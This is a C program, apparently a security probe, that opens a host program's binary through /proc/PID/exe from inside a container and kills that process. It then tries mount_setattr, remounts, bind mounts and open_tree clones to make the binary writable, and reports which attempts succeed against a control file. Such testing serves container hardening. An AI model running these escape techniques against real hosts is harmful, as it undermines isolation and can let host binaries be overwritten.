/* Tries to write to the file of a running program that is not the container's: /proc/PID/exe, by
 * every way there is to take a read-only mount's flag off. argv[1]: its pid. Prints what worked. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int writable(const char *way, int fd)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY | O_APPEND);
    /* While anybody runs it, also outside, it cannot be told. */
    for (int i = 0; w < 0 && errno == ETXTBSY && i < 300; i++) {
        usleep(100000);
        w = open(path, O_WRONLY | O_APPEND);
    }
    printf("%s: %s\n", way, w >= 0 ? "WRITABLE" : strerror(errno));
    if (w >= 0)
        close(w);
    return w >= 0;
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argv[1]);
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        perror(path);
        return 1;
    }
    printf("opened\n");
    kill(atoi(argv[1]), SIGKILL); /* while it runs it is busy */
    usleep(300000);
    writable("reopened", fd);
    struct mount_attr a = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a) == 0)
        printf("mount_setattr WORKED\n");
    writable("after mount_setattr", fd);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
        printf("remount WORKED\n");
    if (mount(NULL, path, NULL, MS_REMOUNT, NULL) == 0)
        printf("remount of the file system WORKED\n");
    writable("after remounts", fd);
    mkdir("/at", 0755);
    close(open("/at/file", O_CREAT | O_WRONLY, 0644));
    if (mount(path, "/at/file", NULL, MS_BIND, NULL) == 0)
        printf("bind WORKED\n");
    int clone = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
    if (clone >= 0) {
        syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &a, sizeof a);
        writable("a clone", clone);
    }
    int own = open("/at/file", O_RDONLY); /* shows that a file that is not protected is */
    writable("control", own);
    return 0;
}
